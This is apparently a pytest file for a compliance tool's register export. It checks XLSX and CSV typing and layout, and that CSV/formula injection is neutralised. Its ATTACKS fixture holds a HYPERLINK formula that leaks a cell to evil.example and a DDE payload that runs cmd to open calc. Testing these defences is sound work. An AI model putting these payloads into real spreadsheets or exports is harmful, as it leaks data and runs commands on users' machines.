"""The register as a spreadsheet, read back with openpyxl and csv: typed cells, a sheet that
filters, sorts and prints, honest properties, and no cell a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import zipfile
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from tests.helpers.approvals import tamper
from tests.helpers.tamper import worst_control
from workbench.models import ArtifactKind
from workbench.services.common import sheets
from workbench.services.documents import editing
from workbench.services.exports import register_export
from workbench.services.register import artifacts, listing, profile
from workbench.services.register.listing import COLUMN_TITLES, Column, RegisterFilter

ATTACKS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
}
LEADING = ["+1+1", "-2+3", "\tTab first", "\rCarriage return first", "=1+1"]


@pytest.fixture
def register(workspace) -> dict[str, int]:
    ids = {}
    for title, kind, interval in (
        ("Scope statement", ArtifactKind.SCOPE, 12),
        ("Access control policy", ArtifactKind.TOPIC_POLICY, 3),
        ("Risk methodology", ArtifactKind.RISK_METHODOLOGY, 12),
    ):
        _, ids[title] = artifacts.create_artifact(
            workspace, actor="Mara", kind=kind, title=title, owner="Jonas",
            refs=["ISO27001:2022/4.3"], review_interval_months=interval, today=date(2026, 1, 10),
            content=f"# {title}\n\nOwner: [TO COMPLETE: name]\n\n> **Guidance:** say who.\n",
        )  # fmt: skip
    editing.save_version(
        workspace, artifact_id=ids["Risk methodology"], content="# v2\n", author="Mara",
        comment="c",
    )  # fmt: skip
    return ids


def test_xlsx_cells_are_typed(workspace, register, tmp_path: Path) -> None:
    profile.update_profile(workspace, actor="Mara", time_zone="Asia/Tokyo")
    target = tmp_path / "register.xlsx"
    count = register_export.export_register(
        workspace, target, register_filter=RegisterFilter(), fmt="xlsx", actor="Mara Consultant"
    )
    assert count == 3
    sheet = load_workbook(target)["Register"]
    header = [cell.value for cell in sheet[1]]
    titles = [COLUMN_TITLES[c] for c in Column]
    titles[list(Column).index(Column.UPDATED)] += " (Asia/Tokyo)"
    assert header == [*titles, "Signature", "Placeholders"]
    column = {title: index for index, title in enumerate(header)}
    rows = list(sheet.iter_rows(min_row=2))
    stored = listing.export_rows(workspace, RegisterFilter())
    for cells, row in zip(rows, stored, strict=True):
        ident = cells[column["ID"]]
        assert (ident.value, ident.data_type) == (row.id, "n")
        assert cells[column["Version"]].value == row.version
        review = cells[column["Next review"]]
        assert review.is_date and review.number_format == "yyyy-mm-dd"
        assert review.value.date() == row.next_review
        changed = cells[column["Last changed (Asia/Tokyo)"]]
        assert changed.is_date and changed.number_format == "yyyy-mm-dd hh:mm"
        tokyo = row.updated.astimezone(ZoneInfo("Asia/Tokyo")).replace(tzinfo=None)
        assert changed.value == tokyo.replace(microsecond=0)
        assert cells[column["Title"]].data_type == "s"
    placeholders = {cells[1].value: cells[column["Placeholders"]].value for cells in rows}
    assert placeholders == {
        "Scope statement": 2, "Access control policy": 2, "Risk methodology": 0,
    }  # fmt: skip
    # sorting by the next review date sorts dates, not text
    reviews = sorted(cells[column["Next review"]].value for cells in rows)
    assert [value.date() for value in reviews] == [
        date(2026, 4, 10), date(2027, 1, 10), date(2027, 1, 10),
    ]  # fmt: skip


def test_xlsx_sheet_filters_freezes_and_prints(workspace, register, tmp_path: Path) -> None:
    profile.update_profile(workspace, actor="Mara", organisation_name="Acme Logistics GmbH")
    target = tmp_path / "register.xlsx"
    register_export.export_register(
        workspace, target, register_filter=RegisterFilter(), fmt="xlsx", actor="Mara Consultant",
        now=datetime(2026, 11, 30, 9, 30, tzinfo=ZoneInfo("UTC")),
    )  # fmt: skip
    book = load_workbook(target)
    sheet = book["Register"]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:L4"
    setup = sheet.page_setup
    assert (setup.orientation, setup.fitToWidth, setup.fitToHeight) == ("landscape", 1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$1"
    widths = {sheet.cell(1, i).value: sheet.column_dimensions[chr(64 + i)].width
              for i in range(1, 13)}  # fmt: skip
    assert widths["ID"] < widths["Title"] and widths["Status"] < widths["Title"]
    properties = book.properties
    assert properties.title == "ISMS register: Acme Logistics GmbH"
    assert properties.subject == "ISO/IEC 27001 ISMS documents and records"
    assert (properties.creator, properties.lastModifiedBy) == ("Mara Consultant",) * 2
    assert properties.created == datetime(2026, 11, 30, 9, 30)
    with zipfile.ZipFile(target) as archive:
        application = archive.read("docProps/app.xml").decode()
    assert "<Application>GRC Workbench</Application>" in application
    assert "<Company>Acme Logistics GmbH</Company>" in application
    assert "openpyxl" not in application.lower()


def test_csv_values(workspace, register, tmp_path: Path) -> None:
    target = tmp_path / "register.csv"
    register_export.export_register(workspace, target, register_filter=RegisterFilter(), fmt="csv")
    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    stored = listing.export_rows(workspace, RegisterFilter())
    assert [row[0] for row in rows[1:]] == [str(row.id) for row in stored]
    assert [row[8] for row in rows[1:]] == [row.next_review.isoformat() for row in stored]
    assert [row[-1] for row in rows[1:]] == ["2", "2", "0"]


def _attacked(workspace) -> int:
    _, artifact_id = artifacts.create_artifact(
        workspace, actor=ATTACKS["owner"], kind=ArtifactKind.RECORD, title=ATTACKS["title"],
        owner=ATTACKS["owner"], content="# x\n",
    )  # fmt: skip
    for text in LEADING:
        _, other = artifacts.create_artifact(
            workspace, actor="Mara", kind=ArtifactKind.RECORD, title="x", content="# y\n"
        )
        # Written straight into the file: the app strips leading white space on entry.
        tamper(workspace, "UPDATE artifact SET title = ?, owner = ? WHERE id = ?", text, text,
               other)  # fmt: skip
    return artifact_id


def test_formula_injection_is_neutralised_in_csv(workspace, tmp_path: Path) -> None:
    _attacked(workspace)
    target = tmp_path / "register.csv"
    register_export.export_register(workspace, target, register_filter=RegisterFilter(),
                                    fmt="csv")  # fmt: skip
    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    titles = [row[1] for row in rows[1:]]
    owners = [row[4] for row in rows[1:]]
    assert titles[0] == "'" + ATTACKS["title"] and owners[0] == "'" + ATTACKS["owner"]
    assert titles[1:] == ["'" + text for text in LEADING]
    for row in rows:  # no field a spreadsheet would evaluate
        assert not any(sheets.formula_like(field) for field in row)


def test_formula_injection_is_text_in_xlsx(workspace, tmp_path: Path) -> None:
    _attacked(workspace)
    target = tmp_path / "register.xlsx"
    register_export.export_register(workspace, target, register_filter=RegisterFilter(),
                                    fmt="xlsx")  # fmt: skip
    sheet = load_workbook(target)["Register"]
    title, owner = sheet["B2"], sheet["E2"]
    # the exact text, stored as a string with the quote prefix: never a formula
    assert (title.value, title.data_type, title.quotePrefix) == (ATTACKS["title"], "s", True)
    assert (owner.value, owner.data_type, owner.quotePrefix) == (ATTACKS["owner"], "s", True)
    assert [sheet.cell(row, 2).value for row in range(3, 8)] == LEADING
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(target) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_control_characters_do_not_break_exports(workspace, register, tmp_path: Path) -> None:
    tamper(workspace, "UPDATE artifact SET title = ?, owner = ? WHERE id = 1",
           f"Scope{worst_control(workspace)}state\x1bment", "Jo\x07nas")  # fmt: skip
    register_export.export_register(workspace, tmp_path / "r.xlsx",
                                    register_filter=RegisterFilter(), fmt="xlsx")  # fmt: skip
    register_export.export_register(workspace, tmp_path / "r.csv",
                                    register_filter=RegisterFilter(), fmt="csv")  # fmt: skip
    sheet = load_workbook(tmp_path / "r.xlsx")["Register"]
    assert (sheet["B2"].value, sheet["E2"].value) == ("Scope\ufffdstate\ufffdment", "Jo\ufffdnas")
    text = (tmp_path / "r.csv").read_text("utf-8")
    assert "Scope\ufffdstate\ufffdment" in text and "\x00" not in text
